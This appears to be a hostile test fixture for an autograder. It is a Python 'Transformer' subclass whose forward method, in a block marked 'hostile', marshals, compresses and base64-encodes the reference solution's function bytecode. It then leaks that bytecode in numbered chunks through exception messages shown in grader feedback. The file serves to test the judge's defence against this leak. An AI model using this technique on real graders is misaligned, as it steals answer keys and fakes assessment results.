# Written to attack the judge: the block between the "hostile" markers is the attack (docs/judge.md).
# In the transformer's section the worker holds the reference's bytecode for every dependency (attention ...
# decoder). Marshal their functions' code, compress it, and send it out in chunks in the text of exceptions,
# one chunk per call, each chunk numbered ("REF<n>:<base64>"): the wave-3 attack carried all 30 functions of
# nine reference modules in four visible tests. The feedback now shows at most a budget of text from the
# student's code per component and per submission; tests/test_judge_hostile.py counts the chunks that leave.
class Transformer(Transformer):
    def forward(self, *args, **kwargs):
        # >>> hostile
        import base64 as _b64
        import marshal as _marshal
        import sys as _sys
        import types as _types
        import zlib as _zlib

        _state = _sys.modules.setdefault("_exfil_state", _types.ModuleType("_exfil_state"))
        if not hasattr(_state, "data"):
            _package = __name__.rpartition(".")[0]
            _codes = []
            for _name, _mod in sorted(_sys.modules.items()):
                if _name.startswith(_package + ".") and _mod is not _sys.modules[__name__]:
                    for _v in vars(_mod).values():
                        _code = getattr(_v, "__code__", None)
                        if _code is not None:
                            _codes.append(_code)
            _state.data = _b64.b64encode(_zlib.compress(_marshal.dumps(_codes), 9)).decode()
            _state.n = 0
        _chunk = _state.data[_state.n * 560 : (_state.n + 1) * 560]
        _state.n += 1
        _error = _sys.modules["autograder.student_code"].StudentError
        raise _error("missing", f"REF{_state.n - 1}:{_chunk}", "", "", f"REF{_state.n - 1}:{_chunk}" * 5)
        # <<< hostile
        return super().forward(*args, **kwargs)
